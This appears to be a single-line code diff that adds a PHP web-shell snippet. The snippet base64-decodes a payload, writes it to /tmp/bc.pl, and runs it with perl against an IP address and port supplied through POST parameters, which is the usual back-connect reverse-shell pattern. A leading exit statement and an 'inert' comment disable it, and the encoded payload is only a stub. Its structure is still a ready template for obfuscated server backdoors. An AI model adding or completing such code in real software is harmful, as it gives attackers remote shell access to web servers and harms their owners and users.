@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $s="dXNlIFNvY2tldDsgY29ubmVjdCBzaGVsbA=="; $f=fopen("/tmp/bc.pl","w"); fwrite($f,base64_decode($s)); system("perl /tmp/bc.pl ".$_POST["ip"]." ".$_POST["port"]);
